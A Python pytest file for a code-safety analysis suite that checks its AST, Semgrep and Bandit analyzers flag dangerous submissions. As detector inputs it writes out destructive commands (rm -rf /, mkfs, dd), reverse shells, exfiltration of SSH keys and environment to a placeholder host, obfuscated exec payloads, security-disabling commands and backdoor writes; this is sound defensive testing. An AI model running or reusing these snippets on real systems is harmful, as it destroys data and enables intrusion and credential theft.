"""The analyzers one by one, for real: Bandit in-process, semgrep-core as a process, our AST analyzer,
the analysis policies as YAML files, and the suite that runs them with deadlines."""

from __future__ import annotations

import shutil
import stat
import sys
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import psutil
import pytest
import yaml

from mai_safety.application.errors import ConfigurationError
from mai_safety.domain.assessment import Submission
from mai_safety.domain.levels import Provenance, RiskLevel
from mai_safety.infrastructure.analysis.policy import load_analysis_policy
from mai_safety.infrastructure.analysis import AnalyzerSuite, build_analyzers
from mai_safety.infrastructure.analysis.ast import AstAnalyzer
from mai_safety.infrastructure.analysis.bandit import BanditAnalyzer
from mai_safety.infrastructure.policies import load_policies
from mai_safety.infrastructure.analysis.semgrep import SemgrepAnalyzer, SemgrepFailed
from mai_safety.infrastructure.analysis.threat_hashes import file_digest, line_digests

from .processes import ends

POLICIES = Path(__file__).resolve().parents[2] / "policies"


def submit(code: str, provenance: Provenance = Provenance.MAI) -> Submission:
    return Submission.from_bytes(textwrap.dedent(code).encode("utf-8"), provenance, 1 << 24)


@pytest.fixture(scope="module")
def analysis_policy():
    return load_analysis_policy(POLICIES)


@pytest.fixture(scope="module")
def ast_analyzer(analysis_policy) -> AstAnalyzer:
    return AstAnalyzer(analysis_policy.ast, analysis_policy.threats, analysis_policy.paths)


@pytest.fixture(scope="module")
def semgrep(analysis_policy) -> Iterator[SemgrepAnalyzer]:
    analyzer = SemgrepAnalyzer(analysis_policy.semgrep)
    yield analyzer
    analyzer.close()


@pytest.fixture
def policies_copy(tmp_path: Path) -> Path:
    target = tmp_path / "policies"
    shutil.copytree(POLICIES, target)
    return target


def rules_of(findings) -> set[str]:
    return {finding.rule_id for finding in findings}


def level_of(findings) -> RiskLevel:
    return RiskLevel.highest([finding.level for finding in findings])


# --- the AST analyzer: aliasing, indirection and folding -----------------------------------------

INDIRECTION = {
    "dunder_import_of_concatenation": ("__import__('o' + 's').system('rm -rf /')", {"destructive-wipe", "obfuscated-call"}),
    "getattr_with_built_name": ("import os\ngetattr(os, 'sys' + 'tem')('setenforce 0')", {"disable-security", "obfuscated-call"}),
    "importlib_import_module": (
        "import importlib\nsp = importlib.import_module('subprocess')\nsp.run(['ufw', 'disable'])",
        {"disable-security", "indirect-call"},
    ),
    "from_import_alias": ("from os import system as s\ns('rm -rf ~')", {"destructive-wipe"}),
    "module_alias": ("import shutil as sh\nsh.rmtree('/')", {"destructive-wipe"}),
    "assignment_alias": ("import os\nrun = os.system\nrun('iptables -F')", {"disable-security"}),
    "builtins_through_globals": ("globals()['__builtins__'].__dict__['ex' + 'ec']('import os')", {"obfuscated-call"}),
    "sys_modules": ("import sys\nsys.modules['os'].system('mkfs.ext4 /dev/sda1')", {"destructive-wipe", "indirect-call"}),
    "star_import": ("from os import *\nsystem('dd if=/dev/zero of=/dev/sda')", {"destructive-wipe"}),
    "wrapper_function": ("import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\nrun('rm -rf /*')", {"destructive-wipe"}),
    "method_of_a_class": ("import subprocess\nclass R:\n    def go(self, c):\n        subprocess.run(c, shell=True)\nR().go('rm -rf ~')",
                          {"destructive-wipe"}),
    "lambda_argument": ("import os\n(lambda f: f('rm -rf /'))(os.system)", {"destructive-wipe"}),
    "map": ("import os\nlist(map(os.system, ['setenforce 0']))", {"disable-security"}),
    "thread_target": ("import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()", {"destructive-wipe"}),
    "executor_submit": ("import os\nfrom concurrent.futures import ThreadPoolExecutor as E\nE().submit(os.system, 'ufw disable')",
                        {"disable-security"}),
    "functools_partial": ("import os, functools\nf = functools.partial(os.system, 'rm -rf /')\nf()", {"destructive-wipe"}),
    "dict_dispatch": ("import os\nACTIONS = {'wipe': os.system}\nACTIONS['wipe']('rm -rf /')", {"destructive-wipe"}),
    "percent_format": ("import os\nos.system('%s %s' % ('rm -rf', '/'))", {"destructive-wipe"}),
    "bytes_of_char_codes": ("import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47]).decode())",
                            {"destructive-wipe", "obfuscated-exec"}),
    "xor_decoding": ("exec(bytes(b ^ 66 for b in b'+/2-06b-1').decode())", {"obfuscated-exec"}),
}


@pytest.mark.parametrize("code, expected", INDIRECTION.values(), ids=INDIRECTION.keys())
def test_aliases_and_indirection_resolve_to_the_function_really_called(ast_analyzer, code, expected):
    findings = ast_analyzer.analyze(submit(code))
    assert expected <= rules_of(findings)
    assert level_of(findings) is RiskLevel.BLOCKED


FOLDING = {
    "concatenation": "exec('imp' + 'ort os; os.sys' + 'tem(\"id\")')",
    "join": "exec(''.join(['import os', '; os.system(\"id\")']))",
    "f_string_of_constants": "m = 'os'\nexec(f'import {m}; {m}.system(\"id\")')",
    "bytes_fromhex": f"exec(bytes.fromhex('{'import os'.encode().hex()}').decode())",
    "base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
    "codecs_rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "zlib": "import zlib\nexec(zlib.decompress(bytes.fromhex('789ccbcc2dc82f2a51c82f06000f6f0380')))",
    "chr_list": "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
    "map_chr": "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))",
    "reversal": "eval(\")'di'(metsys.)'so'(__tropmi__\"[::-1])",
    "loop_accumulation": "s = ''\nfor c in [112, 114, 105, 110, 116]:\n    s += chr(c)\nexec(s + '(1)')",
    "compile_then_exec": "import base64\ncode = compile(base64.b64decode('cHJpbnQoMSk='), '<x>', 'exec')\nexec(code)",
    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3'))",
    "decoded_from_argument": "import base64, sys\nexec(base64.b64decode(sys.argv[1]))",
}


@pytest.mark.parametrize("code", FOLDING.values(), ids=FOLDING.keys())
def test_code_built_or_decoded_before_exec_is_blocked_as_obfuscated(ast_analyzer, code):
    findings = ast_analyzer.analyze(submit(code))
    assert "obfuscated-exec" in rules_of(findings)
    assert level_of(findings) is RiskLevel.BLOCKED


def test_the_payload_of_exec_is_analysed_in_turn(ast_analyzer):
    findings = ast_analyzer.analyze(submit("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik='))"))
    wipe = [f for f in findings if f.rule_id == "destructive-wipe"]
    assert wipe and "exec()" in wipe[0].message and wipe[0].line == 2


def test_names_bound_by_code_run_through_exec_are_the_programs_after_it(ast_analyzer):
    # exec runs its text in the program's own namespace: what that binds, the lines after it use.
    findings = ast_analyzer.analyze(submit("exec('import os as w')\nw.system('rm -rf ~')\n"))
    assert {"destructive-wipe", "command-exec"} <= rules_of(findings) and all(f.line == 2 for f in findings if f.rule_id == "command-exec")
    assert level_of(ast_analyzer.analyze(submit("exec('x = 1')\nprint(x + 1)\n"))) < RiskLevel.MEDIUM


def test_a_plain_literal_exec_is_not_called_obfuscated(ast_analyzer):
    findings = ast_analyzer.analyze(submit("exec('print(1)')"))
    assert "obfuscated-exec" not in rules_of(findings)
    assert level_of(findings) < RiskLevel.HIGH


BEHAVIOUR = {
    "reverse_shell_dup2": ("import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)", "reverse-shell"),
    "reverse_shell_pty": ("import socket, pty\ns = socket.create_connection(('h', 1))\npty.spawn('/bin/sh')", "reverse-shell"),
    "reverse_shell_stdio": ("import socket, subprocess\nc = socket.create_connection(('h', 1))\nsubprocess.Popen(['sh'], stdin=c)",
                            "reverse-shell"),
    "c2_from_http": ("import requests, os\nos.system(requests.get('http://h/c').text)", "remote-command-exec"),
    "ssh_key_then_post": ("import requests\nk = open('/home/u/.ssh/id_ed25519').read()\nrequests.post('http://h', data=k)", "exfiltration"),
    "environment_to_socket": ("import os, socket\ns = socket.create_connection(('h', 1))\ns.sendall(str(dict(os.environ)).encode())",
                              "exfiltration"),
    "walk_and_delete_root": ("import os\nfor r, d, f in os.walk('/'):\n    for n in f:\n        os.unlink(os.path.join(r, n))",
                             "destructive-wipe"),
    "rmtree_home": ("import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())", "destructive-wipe"),
    "fork_in_while": ("import os\nwhile 1:\n    os.fork()", "fork-bomb"),
    "fork_in_comprehension": ("import os\n[os.fork() for _ in range(10 ** 6)]", "fork-bomb"),
    "stratum_url": ("POOL = 'stratum+tcp://pool.example.net:3333'", "crypto-miner"),
    "miner_binary": ("import subprocess\nsubprocess.Popen(['./xmrig', '--donate-level', '1'])", "crypto-miner"),
    "auditd_killed": ("import subprocess\nsubprocess.run(['pkill', '-9', 'auditd'])", "disable-security"),
    "selinux_file": ("open('/sys/fs/selinux/enforce', 'w').write('0')", "disable-security"),
    "shellcode": ("import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
                  "f = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))", "shellcode-loader"),
    "authorized_keys": ("open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa AAAA x')", "persistence-backdoor"),
}


@pytest.mark.parametrize("code, rule", BEHAVIOUR.values(), ids=BEHAVIOUR.keys())
def test_malicious_behaviour_is_blocked(ast_analyzer, code, rule):
    findings = ast_analyzer.analyze(submit(code))
    assert rule in rules_of(findings)
    assert level_of(findings) is RiskLevel.BLOCKED


PRIVILEGED = {
    "sudo": ("import subprocess\nsubprocess.run(['sudo', 'ls'])", "privilege-escalation"),
    "pkexec_text": ("import os\nos.system('pkexec id')", "privilege-escalation"),
    "setuid_root": ("import os\nos.setuid(0)", "set-uid"),
    "setgid": ("import os\nos.setgid(0)", "set-uid"),
    "chmod_setuid": ("import os, stat\nos.chmod('tool', 0o4755)", "system-path-permission"),
    "chown_system_path": ("import os\nos.chown('/usr/bin/tool', 0, 0)", "system-path-permission"),
    "write_etc": ("open('/etc/motd', 'w').write('hi')", "system-path-write"),
    "write_boot": ("from pathlib import Path\nPath('/boot/grub/custom.cfg').write_text('x')", "system-path-write"),
    "write_sys": ("open('/sys/class/leds/led0/brightness', 'w').write('1')", "system-path-write"),
    "ctypes": ("import ctypes\nctypes.CDLL('libc.so.6')", "native-code"),
    "docker_socket": ("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')", "docker-socket"),
    "read_shadow": ("print(open('/etc/shadow').read())", "secret-file-read"),
    "aws_credentials": ("from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())", "secret-file-read"),
}


@pytest.mark.parametrize("code, rule", PRIVILEGED.values(), ids=PRIVILEGED.keys())
def test_privileged_access_is_high(ast_analyzer, code, rule):
    findings = ast_analyzer.analyze(submit(code))
    assert rule in rules_of(findings)
    assert level_of(findings) is RiskLevel.HIGH


RISKY = {
    "subprocess": ("import subprocess\nsubprocess.run(['git', 'status'])", "command-exec"),
    "eval_of_input": ("print(eval(input()))", "code-exec"),
    "network": ("import urllib.request\nurllib.request.urlopen('https://example.com')", "network"),
    "write_outside_cwd": ("open('/tmp/out.txt', 'w').write('x')", "outside-write"),
    "pickle": ("import pickle\npickle.loads(open('m.pkl', 'rb').read())", "deserialization"),
    "marshal_without_exec": ("import marshal\nmarshal.loads(open('c.bin', 'rb').read())", "deserialization"),
    "weak_hash": ("import hashlib\nhashlib.sha1(b'x').hexdigest()", "weak-crypto"),
    "bounded_fork": ("import os\nfor _ in range(3):\n    os.fork()", "process-fork"),
    "dynamic_import": ("import importlib, sys\nimportlib.import_module(sys.argv[1])", "dynamic-import"),
}


@pytest.mark.parametrize("code, rule", RISKY.values(), ids=RISKY.keys())
def test_risky_but_common_code_is_medium(ast_analyzer, code, rule):
    findings = ast_analyzer.analyze(submit(code))
    assert rule in rules_of(findings)
    assert level_of(findings) is RiskLevel.MEDIUM


def test_an_api_key_from_the_environment_in_a_header_is_not_exfiltration(ast_analyzer):
    code = """
        import os, requests
        key = os.environ['SERVICE_API_KEY']
        requests.get('https://api.example.com/items', headers={'Authorization': f'Bearer {key}'}, timeout=5)
    """
    assert level_of(ast_analyzer.analyze(submit(code))) is RiskLevel.MEDIUM


def test_every_finding_carries_what_a_person_needs_to_act(ast_analyzer):
    findings = ast_analyzer.analyze(submit("import os\nx = 1\nos.system('rm -rf /')"))
    wipe = next(f for f in findings if f.rule_id == "destructive-wipe")
    assert (wipe.analyzer, wipe.line, wipe.column, wipe.snippet) == ("ast", 3, 0, "os.system('rm -rf /')")
    assert wipe.cwe.startswith("CWE-") and wipe.severity and wipe.confidence
    assert "delete only files the program created" in wipe.message


# --- the AST analyzer on code it cannot fully read ------------------------------------------------


def test_a_syntax_error_still_yields_findings_from_the_readable_code(ast_analyzer):
    code = "import os\nos.system('setenforce 0')\n\ndef broken(:\n    pass\n\nprint('done')\n"
    findings = ast_analyzer.analyze(submit(code))
    assert {"parse-failed", "disable-security"} <= rules_of(findings)
    assert next(f for f in findings if f.rule_id == "parse-failed").level >= RiskLevel.MEDIUM


def test_the_broken_part_itself_is_read_token_by_token(ast_analyzer):
    code = "import os\nos.system('rm -rf /' +\n"
    findings = ast_analyzer.analyze(submit(code))
    assert "destructive-wipe" in rules_of(findings)
    assert level_of(findings) is RiskLevel.BLOCKED


def test_valid_code_with_an_invalid_escape_is_read_even_when_warnings_are_errors(ast_analyzer):
    # pytest runs with filterwarnings=error, under which Python reports "\\d" in a plain string as a syntax error.
    findings = ast_analyzer.analyze(submit('import os, re\nre.compile("\\d+")\nos.system("rm -rf /")\n'))
    assert "parse-failed" not in rules_of(findings)
    assert "destructive-wipe" in rules_of(findings)


def test_a_syntax_error_alone_is_never_low(ast_analyzer):
    assert level_of(ast_analyzer.analyze(submit("def f(:\n    return 1\n"))) >= RiskLevel.MEDIUM


@pytest.mark.parametrize(
    "code",
    ["x=" + "(" * 1000 + "1" + ")" * 1000, "-" * 100_000 + "1", "x = " + "+".join(["1"] * 100_000),
     "".join(" " * i + "if x:\n" for i in range(60)) + " " * 60 + "pass\n"],
    ids=["parentheses_1000", "unary_minus_100000", "addition_chain_100000", "blocks_60_deep"],
)
def test_deep_nesting_never_crashes_and_is_at_least_medium(ast_analyzer, code):
    findings, complexity = ast_analyzer.analyze_and_measure(submit(code))
    assert level_of(findings) >= RiskLevel.MEDIUM
    assert complexity["lines"] >= 1


def test_complexity_counts_what_the_program_contains(ast_analyzer):
    code = """
        import os, json
        from pathlib import Path

        def load(path):
            with open(path) as handle:
                return json.load(handle)

        class Store:
            def keys(self):
                return [k for k in load('x.json')]

        for name in os.listdir('.'):
            while False:
                if name:
                    print(name)
    """
    _, complexity = ast_analyzer.analyze_and_measure(submit(code))
    assert complexity["lines"] == 16
    assert complexity["imports"] == 3
    assert complexity["functions"] == 2
    assert complexity["classes"] == 1
    assert complexity["loops"] == 3  # for, while, and the comprehension
    assert complexity["calls"] == 5
    assert complexity["max_nesting_depth"] == 3


# --- the known-threat list -----------------------------------------------------------------------


def test_known_threat_hashes_match_after_whitespace_changes(analysis_policy):
    snippet = "import os\nwhile True: os.fork()\n"
    respaced = "# a comment\nimport   os\n\nwhile True:   os.fork()\n"
    assert file_digest(snippet) == file_digest(respaced)
    assert file_digest(snippet) in analysis_policy.threats.file_hashes


def test_a_listed_line_is_blocked_wherever_it_appears(policies_copy):
    line = "payload = 'a line nobody writes by accident 4c1d'"
    digest = dict(line_digests(line))[1]
    threats = yaml.safe_load((policies_copy / "threats.yaml").read_text())
    threats["hashes"].append({"name": "test-line", "scope": "line", "sha256": digest})
    (policies_copy / "threats.yaml").write_text(yaml.safe_dump(threats))
    policy = load_analysis_policy(policies_copy)
    findings = AstAnalyzer(policy.ast, policy.threats).analyze(submit(f"x = 1\n    {line}   \n".replace("    ", "")))
    hit = next(f for f in findings if f.rule_id == "known-threat-hash")
    assert hit.level is RiskLevel.BLOCKED and hit.line == 2 and "test-line" in hit.message


@pytest.mark.parametrize(
    "code",
    ["import colourama", "from Pygrata_Utils import x", "__import__('torch' + 'triton')",
     "import subprocess\nsubprocess.run(['pip', 'install', 'secretslib==1.0'])"],
    ids=["import", "normalised_from_import", "built_dunder_import", "pip_install"],
)
def test_known_malicious_packages_are_blocked(ast_analyzer, code):
    findings = ast_analyzer.analyze(submit(code))
    assert "known-threat-package" in rules_of(findings)
    assert level_of(findings) is RiskLevel.BLOCKED


def test_a_standard_library_module_is_never_taken_for_a_listed_package(ast_analyzer):
    assert "known-threat-package" not in rules_of(ast_analyzer.analyze(submit("import crypt, pwd, urllib")))


# --- provenance ------------------------------------------------------------------------------------


def test_a_blocked_rule_limited_to_some_provenances_gives_the_others_its_otherwise_level(policies_copy):
    text = (policies_copy / "analysis.yaml").read_text().replace(
        "    destructive-wipe: BLOCKED", "    destructive-wipe: {level: BLOCKED, provenances: [mai, external], otherwise: HIGH}"
    )
    (policies_copy / "analysis.yaml").write_text(text)
    policy = load_analysis_policy(policies_copy)
    analyzer = AstAnalyzer(policy.ast, policy.threats)
    code = "import shutil\nshutil.rmtree('/home')"
    assert level_of(analyzer.analyze(submit(code, Provenance.MAI))) is RiskLevel.BLOCKED
    assert level_of(analyzer.analyze(submit(code, Provenance.EXTERNAL))) is RiskLevel.BLOCKED
    assert level_of(analyzer.analyze(submit(code, Provenance.USER))) is RiskLevel.HIGH


def test_a_semgrep_rule_can_be_limited_to_provenances_in_the_policy(policies_copy):
    text = (policies_copy / "analysis.yaml").read_text().replace(
        "  rules: {", "  rules: {destructive-rmtree-root: {level: BLOCKED, provenances: [external]}, "
    )
    (policies_copy / "analysis.yaml").write_text(text)
    analyzer = SemgrepAnalyzer(load_analysis_policy(policies_copy).semgrep, warm=False)
    try:
        code = "import shutil\nshutil.rmtree('/')"
        assert level_of(analyzer.analyze(submit(code, Provenance.EXTERNAL))) is RiskLevel.BLOCKED
        assert level_of(analyzer.analyze(submit(code, Provenance.MAI))) is RiskLevel.HIGH
    finally:
        analyzer.close()


# --- the policy files ----------------------------------------------------------------------------


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def test_the_shipped_analysis_policy_loads(analysis_policy):
    assert analysis_policy.failure_level >= RiskLevel.MEDIUM
    assert len(analysis_policy.semgrep.rules) >= 25
    assert len(analysis_policy.threats.packages) >= 12


def test_a_misspelt_level_names_the_file_the_key_and_what_was_expected(policies_copy):
    _edit(policies_copy / "analysis.yaml", "    reverse-shell: BLOCKED", "    reverse-shell: BLOCK")
    with pytest.raises(ConfigurationError) as error:
        load_analysis_policy(policies_copy)
    assert "analysis.yaml" in error.value.message and "ast.rules.reverse-shell.level" in error.value.message
    assert "'BLOCKED'" in error.value.message


def test_an_analyzer_failure_level_of_low_is_refused(policies_copy):
    _edit(policies_copy / "analysis.yaml", "failure_level: MEDIUM", "failure_level: LOW")
    with pytest.raises(ConfigurationError, match="key failure_level: must be MEDIUM, HIGH or BLOCKED"):
        load_analysis_policy(policies_copy)


def test_an_ast_rule_without_a_level_stops_the_analyzer_from_starting(policies_copy):
    _edit(policies_copy / "analysis.yaml", "    fork-bomb: BLOCKED\n", "")
    policy = load_analysis_policy(policies_copy)
    with pytest.raises(ConfigurationError, match=r"analysis.yaml: key ast.rules: no level for fork-bomb"):
        AstAnalyzer(policy.ast, policy.threats)


def test_a_semgrep_override_for_an_unknown_rule_is_refused(policies_copy):
    _edit(policies_copy / "analysis.yaml", "  rules: {", "  rules: {no-such-rule: HIGH, ")
    with pytest.raises(ConfigurationError, match=r"key semgrep.rules.no-such-rule: no rule with this id"):
        load_analysis_policy(policies_copy)


def test_a_semgrep_rule_without_our_level_names_its_file_and_key(policies_copy):
    _edit(policies_copy / "semgrep" / "reverse_shell.yaml", "level: BLOCKED, ", "")
    with pytest.raises(ConfigurationError, match=r"reverse_shell.yaml: key rules.0.metadata.level: this key is required"):
        load_analysis_policy(policies_copy)


def test_a_bad_threat_hash_is_refused(policies_copy):
    _edit(policies_copy / "threats.yaml", "sha256: cd11a5", "sha256: zz11a5")
    with pytest.raises(ConfigurationError, match=r"threats.yaml: key hashes.0.sha256"):
        load_analysis_policy(policies_copy)


# --- Semgrep through semgrep-core ------------------------------------------------------------------


def test_every_shipped_semgrep_rule_loads_in_the_engine(semgrep):
    semgrep.check_rules()


def test_a_rule_the_engine_cannot_parse_is_a_configuration_error_naming_it(policies_copy):
    _edit(policies_copy / "semgrep" / "risky.yaml", "pattern: os.fork()", "pattern: os.fork(")
    analyzer = SemgrepAnalyzer(load_analysis_policy(policies_copy).semgrep, warm=False)
    try:
        with pytest.raises(ConfigurationError, match=r"risky.yaml: rule risky-fork: Semgrep cannot use this rule"):
            analyzer.check_rules()
    finally:
        analyzer.close()


def test_semgrep_findings_take_their_level_from_the_rule_metadata(semgrep):
    findings = semgrep.analyze(submit("import os, shutil\nshutil.rmtree('/')\nos.setuid(0)\nos.system('ls')"))
    by_rule = {f.rule_id: f for f in findings}
    assert by_rule["destructive-rmtree-root"].level is RiskLevel.BLOCKED
    assert by_rule["privileged-setuid"].level is RiskLevel.HIGH
    assert by_rule["risky-subprocess"].level is RiskLevel.MEDIUM
    wipe = by_rule["destructive-rmtree-root"]
    assert (wipe.line, wipe.column, wipe.snippet, wipe.cwe) == (2, 0, "shutil.rmtree('/')", "CWE-1188")
    assert wipe.severity == "ERROR" and wipe.confidence == "HIGH" and "delete only" in wipe.message


def test_the_warm_engine_and_a_cold_run_find_the_same(analysis_policy, semgrep):
    cold = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
    try:
        examples = sorted((Path(__file__).resolve().parents[1] / "corpus" / "risky").rglob("*.py"))[::4]
        submissions = [submit(path.read_text()) for path in examples]
        batch = cold.analyze_many(submissions)
        for path, submission, expected in zip(examples, submissions, batch):
            found = semgrep.analyze(submission)
            assert sorted((f.rule_id, f.line) for f in found) == sorted((f.rule_id, f.line) for f in expected), path.name
        assert semgrep.warm, semgrep.warm_disabled_reason
    finally:
        cold.close()


def _engines_waiting_below(pids: list[int]) -> list[int]:
    """The engines below these processes that have scanned their warm-up program and block opening
    the code's slot (one of their threads waits for the pipe's writer: ``wait_for_partner``)."""
    waiting = []
    for pid in pids:
        try:
            engines = psutil.Process(pid).children(recursive=True)
        except psutil.NoSuchProcess:
            continue
        for engine in engines:
            for task in Path(f"/proc/{engine.pid}/task").iterdir():
                try:
                    if (task / "wchan").read_text() == "wait_for_partner":
                        waiting.append(engine.pid)
                        break
                except OSError:
                    pass
    return waiting


def _until_engines_wait_below(pids: Callable[[], list[int]], timeout_s: float = 20.0) -> list[int]:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        waiting = _engines_waiting_below(pids())
        if waiting:
            return waiting
        time.sleep(0.02)
    raise AssertionError(f"no engine came to wait for code within {timeout_s:g} s")


def _waiting_for_code(analyzer: SemgrepAnalyzer, timeout_s: float = 20.0) -> int:
    """The pid of the analyzer's waiting engine once it blocks opening the code's slot."""
    return _until_engines_wait_below(lambda: [spare.process.pid for spare in list(analyzer._spares)], timeout_s)[0]


def test_the_waiting_engine_reports_on_the_code_it_is_handed_and_never_on_its_warm_up(analysis_policy):
    """The waiting engine scanned a program of its own first (risky calls, a flow from a file to
    the network), then takes the code through its pipe: what it reports must be the code's alone,
    as a cold engine would, whichever way the code reached it."""
    codes = [
        "print('hello world')\n",  # nothing to report, though the warm-up had plenty
        "import shutil\nshutil.rmtree('/')\n",  # a rule the warm-up does not fire
        "import os\nos.system('ls'\ndef f(:\n    pass\n",  # a parse error, reported on the code's own lines
        # more than a pipe holds (64 KiB), in comments, which cost the engine little to parse
        ("# " + "padding " * 20 + "\n") * 1_000 + "import subprocess\nsubprocess.call('ls', shell=True)\n",
    ]
    cold = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
    warm = SemgrepAnalyzer(analysis_policy.semgrep, warm=True)
    try:
        expected = [{(f.rule_id, f.line) for f in cold.analyze(submit(code))} for code in codes]
        assert expected[0] == set() and ("destructive-rmtree-root", 2) in expected[1]
        assert "semgrep-parse-error" in {rule for rule, _ in expected[2]}
        assert ("risky-subprocess", 1_002) in expected[3] and len(codes[3]) > 1 << 17
        # right after the start, the engine may not have reached its pipe: it reads the file
        assert {(f.rule_id, f.line) for f in warm.analyze(submit(codes[1]))} == expected[1]
        for code, wanted in zip(codes, expected):
            engine = _waiting_for_code(warm)
            assert {(f.rule_id, f.line) for f in warm.analyze(submit(code))} == wanted
            assert ends(engine), "the scan was not made by the engine that waited"
        assert warm.warm, warm.warm_disabled_reason
    finally:
        warm.close()
        cold.close()



def test_a_waiting_engine_that_stops_reading_the_code_does_not_hold_the_scan_past_its_deadline(analysis_policy, tmp_path):
    """An engine that opened the code's pipe and never reads it: code longer than the pipe holds
    cannot all be written, and the scan must still end at its deadline (then the cold engine's
    answer, a failure here), not when the engine does."""
    stuck = tmp_path / "semgrep-core"
    stuck.write_text(
        f"#!{sys.executable}\n"
        "import json, sys, time\n"
        "arguments = sys.argv[1:]\n"
        "if '-targets' not in arguments:\n"
        "    sys.exit('cold engine: no answer')\n"
        "targets = json.load(open(arguments[arguments.index('-targets') + 1]))[1]\n"
        "held = open(targets[-1][1]['path']['fpath'], 'rb')  # the code's slot: opened, never read\n"
        "time.sleep(120)\n"
    )
    stuck.chmod(stuck.stat().st_mode | stat.S_IEXEC)
    analyzer = SemgrepAnalyzer(analysis_policy.semgrep, engine=stuck, warm=True)
    outcome: list[BaseException] = []

    def scan() -> None:
        try:
            analyzer.analyze(submit("x = 1\n" * 100_000))  # 600 kB: more than a pipe holds
        except BaseException as exc:  # noqa: BLE001 - the test reads it
            outcome.append(exc)

    try:
        _waiting_for_code(analyzer)
        scanning = threading.Thread(target=scan, daemon=True)
        scanning.start()
        scanning.join(timeout=analysis_policy.semgrep.timeout_s + 20)
        assert not scanning.is_alive(), "the scan was held by an engine that does not read"
        assert outcome and isinstance(outcome[0], SemgrepFailed) and "cold engine: no answer" in str(outcome[0])
    finally:
        analyzer.close()


def test_a_batch_has_the_engines_time_bound_per_program(analysis_policy, tmp_path):
    """The engine's time bound (semgrep.timeout_s) is per program, as the suite's deadline is per
    submission: a batch of two that takes longer than one bound is answered, not failed."""
    bound_s = analysis_policy.semgrep.timeout_s
    slow = tmp_path / "semgrep-core"
    slow.write_text(
        f"#!{sys.executable}\n"
        "import json, sys, time\n"
        "arguments = sys.argv[1:]\n"
        "targets = json.load(open(arguments[arguments.index('-targets') + 1]))[1]\n"
        f"time.sleep({bound_s} + 1)\n"
        "paths = [target[1]['path']['fpath'] for target in targets]\n"
        "print(json.dumps({'results': [], 'errors': [], 'paths': {'scanned': paths}}))\n"
    )
    slow.chmod(slow.stat().st_mode | stat.S_IEXEC)
    analyzer = SemgrepAnalyzer(analysis_policy.semgrep, engine=slow, warm=False)
    try:
        assert analyzer.analyze_many([submit("print(1)"), submit("print(2)")]) == [[], []]
    finally:
        analyzer.close()

def test_code_semgrep_cannot_fully_parse_is_a_finding_at_the_failure_level(semgrep):
    findings = semgrep.analyze(submit("import os\nos.system('ls'\ndef f(:\n    pass\n"))
    partial = [f for f in findings if f.rule_id == "semgrep-parse-error"]
    assert partial and partial[0].level >= RiskLevel.MEDIUM


def test_code_too_deep_for_pythons_parser_is_not_handed_to_semgrep(semgrep):
    findings = semgrep.analyze(submit("-" * 100_000 + "1"))
    assert rules_of(findings) == {"semgrep-skipped"} and findings[0].level >= RiskLevel.MEDIUM


def test_a_missing_engine_is_a_failure_the_suite_turns_into_a_finding(analysis_policy, tmp_path):
    broken = tmp_path / "semgrep-core"
    broken.write_text("#!/bin/sh\necho 'engine exploded' >&2\nexit 3\n")
    broken.chmod(broken.stat().st_mode | stat.S_IEXEC)
    suite = AnalyzerSuite([SemgrepAnalyzer(analysis_policy.semgrep, engine=broken, warm=False)], RiskLevel.MEDIUM)
    assessment = suite.assess(submit("print('hello')"))
    assert assessment.level is RiskLevel.MEDIUM
    failure = assessment.findings[0]
    assert (failure.analyzer, failure.rule_id) == ("semgrep", "analyzer-failed")
    assert "engine exploded" in failure.message


def test_an_analyzer_that_misses_its_deadline_is_a_finding_naming_it(analysis_policy, tmp_path):
    slow = tmp_path / "semgrep-core"
    slow.write_text("#!/bin/sh\nexec sleep 30\n")
    slow.chmod(slow.stat().st_mode | stat.S_IEXEC)
    suite = AnalyzerSuite([SemgrepAnalyzer(analysis_policy.semgrep, engine=slow, warm=False)], RiskLevel.MEDIUM, deadline_s=1)
    try:
        assessment = suite.assess(submit("print('hello')"))
    finally:
        suite.close()  # stops the engine the suite stopped waiting for
    assert assessment.level is RiskLevel.MEDIUM
    assert (assessment.findings[0].analyzer, assessment.findings[0].rule_id) == ("semgrep", "analyzer-timeout")


# --- Bandit ---------------------------------------------------------------------------------------


def test_bandit_reads_the_submission_and_maps_its_tests_to_levels():
    bandit = BanditAnalyzer(load_policies(POLICIES).bandit)
    findings = bandit.analyze(submit("import subprocess\nsubprocess.run('ls', shell=True)"))
    assert any(f.rule_id.startswith("B602") and f.level is RiskLevel.MEDIUM for f in findings)


def test_bandit_cannot_be_silenced_by_the_code_it_checks():
    bandit = BanditAnalyzer(load_policies(POLICIES).bandit)
    findings = bandit.analyze(submit("import pickle\npickle.loads(b'')  # nosec"))
    assert any(f.rule_id.startswith("B301") for f in findings)


# --- the suite -----------------------------------------------------------------------------------


def test_build_analyzers_wires_all_three_analyzers_and_the_complexity_measure():
    suite = build_analyzers(POLICIES, load_policies(POLICIES).bandit, warm_semgrep=False)
    assessment = suite.assess(submit("import os\nfor f in os.listdir('.'):\n    print(f)\n"))
    assert assessment.analyzers == ("semgrep", "bandit", "ast")
